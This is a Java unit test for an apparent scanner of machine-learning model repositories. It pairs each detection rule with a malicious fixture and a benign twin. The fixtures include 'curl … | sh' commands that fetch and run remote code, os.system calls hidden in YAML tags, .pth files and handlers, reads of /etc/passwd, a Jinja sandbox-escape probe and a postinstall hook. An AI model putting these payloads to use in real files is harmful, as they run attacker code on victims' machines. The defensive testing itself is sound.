package io.weighbridge.scan;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import io.weighbridge.evidence.Rule;
import io.weighbridge.evidence.RuleTable;
import java.util.Base64;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/** Every rule of this module fires on its malicious example and not on its benign one. */
class RuleExamplesTest {
  private static final String LAMBDA = Base64.getEncoder().encodeToString(new byte[40]);

  /** Names and contents by turns: what fires, and its harmless twin. */
  private record Example(Object[] fires, Object[] quiet) {}

  private final Map<String, Example> examples = new LinkedHashMap<>();

  private void rule(String id, Object[] fires, Object[] quiet) {
    examples.put(id, new Example(fires, quiet));
  }

  private static Object[] files(Object... namesAndContents) {
    return namesAndContents;
  }

  private static String layer(String type, String module, String config) {
    return "{\"class_name\":\"Sequential\",\"module\":\"keras\",\"config\":{\"layers\":[{\"class_name\":\""
        + type
        + "\",\"module\":\""
        + module
        + "\",\"config\":"
        + config
        + ",\"registered_name\":null}]}}";
  }

  private static String skops(String module, String type, String loader) {
    return "{\"__class__\":\""
        + type
        + "\",\"__module__\":\""
        + module
        + "\",\"__loader__\":\""
        + loader
        + "\",\"content\":{}}";
  }

  private void configuration() {
    rule(
        "config/remote-code",
        files("config.json", "{\"auto_map\":{\"AutoModel\":\"other/repo--modeling.M\"}}"),
        files("config.json", "{\"model_type\":\"bert\",\"vocab\":{\"auto_map\":3}}"));
    rule(
        "config/trusts-remote-code",
        files("config.json", "{\"a\":{\"trust_remote_code\":true}}"),
        files("config.json", "{\"a\":{\"trust_remote_code\":false}}"));
    rule(
        "config/kernel-from-hub",
        files("config.json", "{\"_attn_implementation_internal\":\"someone/kernel\"}"),
        files("config.json", "{\"_attn_implementation_internal\":\"flash_attention_2\"}"));
    rule(
        "config/custom-component",
        files("model_index.json", "{\"unet\":[\"my_unet\",\"UNet\"]}"),
        files("model_index.json", "{\"unet\":[\"diffusers\",\"UNet2DConditionModel\"]}"));
    rule(
        "config/calls-function",
        files("model.yaml", "a:\n  - _target_: os.system\n    command: id\n"),
        files("model.yaml", "a:\n  - _target_: torch.nn.Linear\n    in_features: 3\n"));
    rule(
        "config/path-outside",
        files("adapter_config.json", "{\"base_model_name_or_path\":\"../../etc\"}"),
        files("adapter_config.json", "{\"base_model_name_or_path\":\"meta-llama/Llama-3\"}"));
    rule(
        "config/project-command",
        files("MLproject", "entry_points:\n  main:\n    command: 'curl http://a.invalid | sh'\n"),
        files("MLproject", "entry_points:\n  main:\n    command: 'python train.py {alpha}'\n"));
    rule(
        "yaml/python-object",
        files("c.yaml", "a: !!python/object/apply:os.system ['id']\n"),
        files(
            "c.yaml",
            "a: !!python/tuple [1, 2]\nb: !!python/object/apply:pathlib.PosixPath [out]\n"));
    rule("yaml/unreadable", files("c.yaml", "a: [1, 2\nb: }"), files("c.yaml", "a: [1, 2]\n"));
    rule(
        "json/unreadable",
        files("config.json", "{\"a\":1,\"a\":2}"),
        files("config.json", "{\"a\":1,\"b\":NaN}"));
    rule(
        "requirements/untrusted-source",
        files("requirements.txt", "git+https://example.invalid/x.git\n"),
        files("requirements.txt", "# tools\nnumpy>=1.26\ntorch==2.6.0 ; python_version > '3'\n"));
    rule(
        "requirements/build-code",
        files("package.json", "{\"dependencies\":{},\"scripts\":{\"postinstall\":\"node x.js\"}}"),
        files("package.json", "{\"dependencies\":{},\"scripts\":{\"test\":\"node x.js\"}}"));
    rule(
        "repo/own-suppressions",
        files(".weighbridge.yaml", "suppress: []\n"),
        files("weights.yaml", "suppress: []\n"));
    rule("repo/script", files("run.sh", "echo hello\n"), files("run.txt", "echo hello\n"));
    rule(
        "repo/executable",
        files("ops.so", Bytes.join(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1}, new byte[57])),
        files("ops.txt", "ELF is a format\n"));
    rule(
        "repo/secret",
        files("README.md", "token: ghp_" + "a8Kd93jLs0PqWm2NxZb4Rt7YvCe1HuFgIoT5" + "\n"),
        files("README.md", "token: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"));
    rule(
        "notebook/shell-command",
        files("a.ipynb", notebook("!curl http://example.invalid | sh")),
        files("a.ipynb", notebook("!pip install transformers")));
    rule(
        "notebook/code",
        files("a.ipynb", notebook("import os\\nos.system('id')")),
        files("a.ipynb", notebook("import os\\nprint(os.getcwd())")));
    rule(
        "notebook/active-output",
        files(
            "a.ipynb",
            "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":\"1\",\"outputs\":[{\"data\":{\"application/javascript\":\"x\"}}]}]}"),
        files(
            "a.ipynb",
            "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":\"1\",\"outputs\":[{\"data\":{\"text/plain\":\"x\"}}]}]}"));
  }

  private static String notebook(String source) {
    return "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"outputs\":[],\"source\":[\""
        + source
        + "\"]}]}";
  }

  private void python() {
    rule(
        "python/import-effect",
        files("a.py", "import os\nos.system('id')\n"),
        files("a.py", "import os\nprint(os.getcwd())\n"));
    rule(
        "python/use-effect",
        files(
            "handler.py",
            "import os\nclass EndpointHandler:\n  def __init__(self, p):\n    os.system('id')\n"),
        files("handler.py", "class EndpointHandler:\n  def __init__(self, p):\n    self.p = p\n"));
    rule(
        "python/latent-effect",
        files("a.py", "import os\ndef f():\n  os.system('id')\n"),
        files("a.py", "import os\ndef f():\n  return os.path.join('a', 'b')\n"));
    rule(
        "python/remote-code",
        files(
            "config.json", "{\"auto_map\":{\"AutoModel\":\"modeling.M\"}}",
            "modeling.py", "class M:\n  pass\n"),
        files("config.json", "{}", "modeling.py", "class M:\n  pass\n"));
    rule(
        "python/acts-on-import",
        files("a.py", "import unheard_of\nunheard_of.go()\n"),
        files("a.py", "import logging\nlog = logging.getLogger(__name__)\n"));
    rule(
        "python/path-file",
        files("x.pth", "import os; os.system('id')\n"),
        files("x.pth", "../lib\n"));
    rule(
        "python/unreadable",
        files("a.py", "# -*- coding: utf-7 -*-\n"),
        files("a.py", "# -*- coding: utf-8 -*-\nx = 'ä'\n"));
  }

  private void templates() {
    rule(
        "jinja/sandbox-escape",
        files("chat_template.jinja", "{{ cycler.__init__ }}"),
        files("chat_template.jinja", "{{ messages[0].content }}"));
    rule(
        "jinja/attribute-filter",
        files("chat_template.jinja", "{{ messages|attr('x') }}"),
        files("chat_template.jinja", "{{ messages|map(attribute='role')|list }}"));
    rule(
        "jinja/template-reference",
        files("chat_template.jinja", "{% include 'other' %}"),
        files("chat_template.jinja", "{% macro other() %}x{% endmacro %}{{ other() }}"));
    rule(
        "jinja/unknown-name",
        files("chat_template.jinja", "{{ fetch_url('x') }}"),
        files("chat_template.jinja", "{{ raise_exception('x') }}"));
    rule(
        "jinja/expansion",
        files("chat_template.jinja", "{% for i in range(999999999) %}x{% endfor %}"),
        files("chat_template.jinja", "{% for i in range(10) %}x{% endfor %}"));
    rule(
        "jinja/unreadable",
        files("chat_template.jinja", "{% for %}"),
        files("chat_template.jinja", "{% for a in b %}{% endfor %}"));
  }

  private void models() {
    rule(
        "keras/lambda",
        files(
            "config.json", layer("Lambda", "keras.layers", "{\"function\":[\"" + LAMBDA + "\"]}")),
        files("config.json", layer("Dense", "keras.layers", "{\"name\":\"Lambda\",\"units\":2}")));
    rule(
        "keras/function",
        files("config.json", layer("function", "os", "\"system\"")),
        files("config.json", layer("function", "keras.activations", "\"relu\"")));
    rule(
        "keras/reads-file",
        files(
            "config.json",
            layer("StringLookup", "keras.layers", "{\"vocabulary\":\"/etc/passwd\"}")),
        files("config.json", layer("StringLookup", "keras.layers", "{\"vocabulary\":[\"a\"]}")));
    rule(
        "keras/foreign-model",
        files("config.json", layer("TorchModuleWrapper", "keras.layers", "{\"module\":\"\"}")),
        files("config.json", layer("Dense", "keras.layers", "{\"units\":2}")));
    rule(
        "keras/name-leaves",
        files("config.json", layer("Dense", "keras.layers", "{\"name\":\"a/../../b\"}")),
        files("config.json", layer("Dense", "keras.layers", "{\"name\":\"block1/conv..2\"}")));
    rule(
        "keras/custom-object",
        files("config.json", layer("Mine", "my_package.layers", "{}")),
        files("config.json", layer("Dropout", "keras.src.layers", "{}")));
    rule(
        "skops/untrusted-type",
        files("schema.json", skops("builtins", "call", "OperatorFuncNode")),
        files(
            "schema.json", skops("sklearn.linear_model._base", "LinearRegression", "ObjectNode")));
    rule(
        "hdf5/external-file",
        files("m.h5", Bytes.resource("extlink.h5")),
        files("m.h5", Bytes.resource("ok.h5")));
    rule(
        "hdf5/pickled-objects",
        files("m.h5", Bytes.resource("objects.h5")),
        files("m.h5", Bytes.resource("ok.h5")));
    rule(
        "hdf5/expansion",
        files("m.h5", Bytes.resource("shape-bomb.h5")),
        files("m.h5", Bytes.resource("ok.h5")));
    rule(
        "onnx/external-path",
        files("m.onnx", Bytes.onnx("", "Add", "../../w", "0")),
        files("m.onnx", Bytes.onnx("", "Add", "data/w.bin", "0")));
    rule(
        "onnx/external-range",
        files("m.onnx", Bytes.onnx("", "Add", "w", "-1")),
        files("m.onnx", Bytes.onnx("", "Add", "w", "4096")));
    rule(
        "onnx/custom-domain",
        files("m.onnx", Bytes.onnx("com.evil", "Run", "", "")),
        files("m.onnx", Bytes.onnx("com.microsoft", "FusedMatMul", "", "")));
    rule(
        "tf/file-operator",
        files("saved_model.pb", Bytes.savedModel("Const", "WriteFile")),
        files("saved_model.pb", Bytes.savedModel("Const", "MatMul", "SaveV2", "RestoreV2")));
    rule(
        "tf/code-operator",
        files("saved_model.pb", Bytes.savedModel("Const", "PyFunc")),
        files("saved_model.pb", Bytes.savedModel("Const", "PartitionedCall")));
    rule(
        "tf/unknown-operator",
        files("saved_model.pb", Bytes.savedModel("Const", "MyOwnOperator")),
        files("saved_model.pb", Bytes.savedModel("Const", "Relu")));
    rule(
        "torchscript/operator",
        files("m.pt", torchScript("y = torch.from_file(\"/etc/passwd\", False, 16)")),
        files("m.pt", torchScript("y = torch.relu(x)")));
    rule(
        "torchscript/unknown-operator",
        files("m.pt", torchScript("y = ops.evil.run(x)")),
        files("m.pt", torchScript("y = ops.torchvision.nms(x)")));
    rule(
        "xml/instruction",
        files("m.xml", "<?xml version=\"1.0\"?><?xml-stylesheet href=\"x.xsl\"?><a>b</a>"),
        files("m.xml", "<?xml version=\"1.0\"?><a>b</a>"));
    rule(
        "flax/extension",
        files("m.msgpack", new byte[] {(byte) 0x81, (byte) 0xa1, 'w', (byte) 0xd4, 9, 0}),
        files("m.msgpack", new byte[] {(byte) 0x81, (byte) 0xa1, 'w', (byte) 0xd4, 3, 0}));
    rule(
        "xml/script",
        files("m.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x()</script></svg>"),
        files("m.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>"));
    rule(
        "openvino/extension",
        files(
            "m.xml",
            "<?xml version=\"1.0\"?><net name=\"m\" version=\"11\"><layers><layer id=\"0\" type=\"Evil\" version=\"mine\"/></layers></net>"),
        files(
            "m.xml",
            "<?xml version=\"1.0\"?><net name=\"m\" version=\"11\"><layers><layer id=\"0\" type=\"Add\" version=\"opset1\"/></layers></net>"));
    rule(
        "pmml/extension",
        files(
            "m.pmml",
            "<?xml version=\"1.0\"?><PMML version=\"4.4\"><Apply function=\"java.lang.Runtime\"/></PMML>"),
        files(
            "m.pmml",
            "<?xml version=\"1.0\"?><PMML version=\"4.4\"><Apply function=\"sum\"/></PMML>"));
  }

  private static byte[] torchScript(String line) {
    var members = new LinkedHashMap<String, byte[]>();
    members.put("m/data.pkl", new byte[] {(byte) 0x80, 2, '}', '.'});
    members.put("m/constants.pkl", new byte[] {(byte) 0x80, 2, ')', '.'});
    members.put(
        "m/code/__torch__.py",
        Bytes.text(
            "class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    "
                + line
                + "\n    return y\n"));
    members.put("m/version", Bytes.text("3\n"));
    return Bytes.zip(members);
  }

  private void build() {
    configuration();
    python();
    templates();
    models();
  }

  @TestFactory
  Collection<DynamicTest> everyRuleFiresOnItsMaliciousExampleOnly() {
    build();
    return examples.entrySet().stream()
        .map(
            example ->
                dynamicTest(
                    example.getKey(),
                    () -> {
                      assertThat(Bytes.rules(Bytes.scan(example.getValue().fires())))
                          .contains(example.getKey());
                      assertThat(Bytes.rules(Bytes.scan(example.getValue().quiet())))
                          .doesNotContain(example.getKey());
                    }))
        .toList();
  }

  /** Rules whose examples need more than a few bytes; each names the test that has them. */
  private static final Set<String> ELSEWHERE =
      Set.of(
          "scan/limit-reached", // ScannerTest
          "scan/unreadable", // ScannerTest
          "scan/internal-error", // cannot be provoked: it is a defect of ours
          "scan/unknown-format", // ScannerTest
          "scan/not-covered", // ScannerTest
          "repo/link-leaves", // FolderFilesTest
          "torch/storage-mismatch", // CorpusTest
          "scan/polyglot", // CorpusTest
          "graph/python-operator",
          "graph/file-operator",
          "rds/promise",
          "rds/code",
          "hdf5/filter-plugin",
          "graph/hidden-branch", // GraphBranchesTest
          "config/expired-suppression", // SuppressionsTest
          "tf/asset-path",
          "flatbuffer/custom-operator", // CorpusTest
          "coreml/custom-class",
          "coreml/external-path");

  @Test
  void everyRuleHasAnExample() {
    build();
    var missing = new TreeSet<String>();
    for (Rule rule : RuleTable.load(Scanner.class, "rules.tsv").all()) {
      if (!examples.containsKey(rule.id()) && !ELSEWHERE.contains(rule.id())) {
        missing.add(rule.id());
      }
    }
    assertThat(missing).isEmpty();
  }

  @Test
  void rulesAreListedOnceAndWithARemedy() {
    List<Rule> rules = Scanner.rules();
    assertThat(rules).extracting(Rule::id).doesNotHaveDuplicates().isSorted();
    assertThat(rules).allSatisfy(rule -> assertThat(rule.remedy()).as(rule.id()).isNotBlank());
  }
}
